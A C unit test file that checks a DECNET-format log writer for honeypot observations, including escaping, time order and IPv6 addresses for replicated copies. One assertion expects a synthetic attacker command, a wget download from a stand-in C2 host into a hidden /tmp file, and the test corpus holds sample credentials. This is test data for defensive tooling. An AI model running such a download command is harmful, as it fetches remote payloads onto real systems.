/*  test_decnet_gen.c - the DECNET-format writer: what it renders reads back through the
    DECNET adapter as exactly the predicted view, including the awkward values (quotes, ']',
    backslashes, CR/LF, non-ASCII, empty and absent strings, sessions without a decky or an
    id, observations without sessions), replicated copies' IPv6 addresses, time order and
    DECNET's timestamp form. */
#include "decnet.h"
#include "decnet_gen.h"
#include "gen.h"
#include "xalloc.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

/*  Observations a sink collected (copies). */
typedef struct {
    obs_t **obs; /* owned */
    size_t n;    /* count */
    size_t cap;  /* slots */
} s_got_t;

static int
s_collect(const obs_t *obs, void *arg)
{
    s_got_t *got = arg;
    xgrow(&got->obs, &got->cap, got->n + 1);
    got->obs[got->n++] = obs_dup(obs);
    return 0;
}

static obs_session_t *
s_session(obs_t *o, const char *id, const char *decky, ukc_phase_t phase, double start,
          double duration)
{
    obs_session_t *s = obs_add_session(o);
    s->id = id ? xstrdup(id) : NULL;
    s->decky = decky ? xstrdup(decky) : NULL;
    s->phase = phase;
    s->start = start;
    s->duration = duration;
    return s;
}

static void
s_commands(obs_session_t *s, const char *const *cmds, size_t n)
{
    s->commands = xcalloc(n, sizeof *s->commands);
    for (size_t i = 0; i < n; i++) {
        s->commands[s->n_commands++] = xstrdup(cmds[i]);
    }
}

static void
s_creds(obs_session_t *s, const char *const *pairs, size_t n)
{
    s->creds = xcalloc(n, sizeof *s->creds);
    for (size_t i = 0; i < n; i++) {
        s->creds[i].user = xstrdup(pairs[2 * i]);
        s->creds[i].pass = xstrdup(pairs[2 * i + 1]);
    }
    s->n_creds = n;
}

/*  Three awkward observations. */
static void
s_corpus(obs_t *o[3])
{
    double t0 = GEN_T0;
    o[0] = obs_new();
    o[0]->id = xstrdup("att-0");
    o[0]->ip = xstrdup("203.0.113.7");
    o[0]->has_asn = true;
    o[0]->asn = 64512;
    o[0]->ja3 = xstrdup("");
    o[0]->hassh = xstrdup("hassh-x");
    o[0]->truth_campaign = xstrdup("camp \"1\" ]");
    o[0]->truth_identity = xstrdup("id-1");
    o[0]->truth_actor = xstrdup("act\\1");
    obs_session_t *s = s_session(o[0], "sess-b", "decky-02", UKC_EXFILTRATION, t0 + 50, 0.25);
    const char *c1[] = {"cat x | grep \"root]\"", "echo a\nb\rc", "ls \xc3\xa9"};
    s_commands(s, c1, 3);
    s->c2 = xstrdup("c2.example.net");
    s->payload_hash = xstrdup("ab\"cd");
    const char *p1[] = {"None", "p\"w]\\d", "r\noot", "\xc3\xa9t\xc3\xa9"};
    s_creds(s, p1, 2);
    /* earlier but listed later: sessions come back in start order */
    s = s_session(o[0], "sess-a", "decky 01", UKC_DISCOVERY, t0 + 10, 600);
    const char *p2[] = {"admin", "admin"};
    s_creds(s, p2, 1);
    s = s_session(o[0], NULL, NULL, UKC_DELIVERY, t0 + 10, 1);
    s = s_session(o[0], "sess-e", "decky-03", UKC_COMMAND_AND_CONTROL, t0 + 90, 5);
    s->c2 = xstrdup(""); /* names no host: no C2 comes back */
    o[1] = obs_new();    /* no sessions, no fingerprints */
    o[1]->id = xstrdup("att-1");
    o[1]->ip = xstrdup("198.51.100.9");
    o[2] = obs_new();
    o[2]->id = xstrdup("att-2");
    o[2]->ip = xstrdup("192.0.2.1");
    o[2]->ja3 = xstrdup("ja3-z");
    s_session(o[2], "sess-z", "decky-01", UKC_DELIVERY, t0 + 3600, 1);
    s_session(o[2], "sess-y", "decky-01", UKC_DELIVERY, t0 + 3600, 1);
}

/*  Renders the corpus (copy `copy`), ingests the lines with the state file, and checks each
    observation against its view. Returns the rendered text (owned). */
static char *
s_round_trip(obs_t *o[3], uint64_t copy)
{
    decnet_gen_t *g = decnet_gen_new();
    for (int i = 0; i < 3; i++) {
        decnet_gen_add(g, o[i], copy);
    }
    char *text = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&text, &len);
    assert_int_equal(decnet_gen_flush(g, f), 0);
    fclose(f);
    char *state = NULL;
    size_t state_len = 0;
    assert_int_equal(decnet_gen_state(g, &state, &state_len), 0);
    decnet_gen_destroy(&g);
    assert_null(g);

    decnet_t *dn = decnet_new(NULL);
    obs_error_t err;
    assert_int_equal(decnet_load_state(dn, state, state_len, &err), 4);
    uint64_t no = 0;
    double last = -1;
    for (char *line = text; *line;) {
        char *nl = strchr(line, '\n');
        assert_non_null(nl);
        double t = 0;
        assert_int_equal(decnet_line_time(line, (size_t)(nl - line), &t), 0);
        assert_true(t >= last); /* time order */
        last = t;
        assert_int_equal(decnet_feed(dn, line, (size_t)(nl - line), ++no), 0);
        line = nl + 1;
    }
    assert_int_equal(decnet_bad(dn) + decnet_no_ip(dn) + decnet_native(dn), 0);
    s_got_t got = {0};
    assert_int_equal(decnet_finish(dn, s_collect, &got), 0);
    assert_int_equal(got.n, 3);
    for (int i = 0; i < 3; i++) {
        obs_t *view = decnet_gen_view(o[i], copy);
        obs_error_t e;
        assert_int_equal(obs_check_record(view, &e), 0);
        const obs_t *match = NULL;
        for (size_t k = 0; k < got.n; k++) {
            match = strcmp(got.obs[k]->id, view->id) == 0 ? got.obs[k] : match;
        }
        if (!match || !obs_equal(match, view)) {
            fail_msg("observation %s does not read back as its view", view->id);
        }
        obs_destroy(&view);
    }
    for (size_t k = 0; k < got.n; k++) {
        obs_destroy(&got.obs[k]);
    }
    free(got.obs);
    free(state);
    decnet_destroy(&dn);
    return text;
}

static void
test_round_trip(void **state)
{
    (void)state;
    obs_t *o[3];
    s_corpus(o);
    char *text = s_round_trip(o, 0);
    /* DECNET's timestamp form: the fraction left out when it is 0 */
    assert_non_null(strstr(text, "<134>1 2026-01-01T00:00:10+00:00 "));
    assert_non_null(strstr(text, "2026-01-01T00:00:50.250000+00:00"));
    /* escapes, and no raw CR or LF inside a line */
    assert_non_null(strstr(text, "secret_printable=\"p\\\"w\\]\\\\d\""));
    assert_non_null(strstr(text, "cmd=echo a b c"));
    assert_null(strchr(text, '\r'));
    free(text);
    obs_t *view = decnet_gen_view(o[0], 0);
    assert_string_equal(view->id, "decnet:203.0.113.7");
    assert_false(view->has_asn);
    assert_null(view->hassh);
    assert_string_equal(view->ja3, "");
    assert_int_equal(view->n_sessions, 4);
    assert_string_equal(view->sessions[0].id, "sess-a");
    assert_string_equal(view->sessions[0].decky, "decky_01");
    assert_string_equal(view->sessions[1].id, "session-3");
    assert_null(view->sessions[1].decky);
    const obs_session_t *b = &view->sessions[2];
    assert_string_equal(b->id, "sess-b");
    assert_int_equal(b->n_commands, 4);
    assert_string_equal(b->commands[0], "wget -q -O /tmp/.c http://c2.example.net/i");
    assert_string_equal(b->c2, "c2.example.net");
    assert_string_equal(b->creds[0].user, "None");
    assert_string_equal(b->creds[1].user, "r oot");
    assert_null(view->sessions[3].c2);
    assert_non_null(obs_fp_get(view, "tcp_syn"));
    assert_non_null(obs_fp_get(view, "ssh_client"));
    obs_destroy(&view);
    for (int i = 0; i < 3; i++) {
        obs_destroy(&o[i]);
    }
}

/*  Copies k >= 1 get 2001:db8:<k>::<IPv4>, after gen_replicate's suffixes. */
static void
test_copies(void **state)
{
    (void)state;
    obs_t *o[3];
    s_corpus(o);
    for (int i = 0; i < 3; i++) {
        gen_replicate(o[i], 70000);
    }
    free(s_round_trip(o, 70000));
    obs_t *view = decnet_gen_view(o[0], 70000);
    assert_string_equal(view->ip, "2001:db8:1:1170::cb00:7107");
    assert_string_equal(view->sessions[0].decky, "decky_01#r70000");
    obs_destroy(&view);
    for (int i = 0; i < 3; i++) {
        obs_destroy(&o[i]);
    }
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_round_trip),
        cmocka_unit_test(test_copies),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
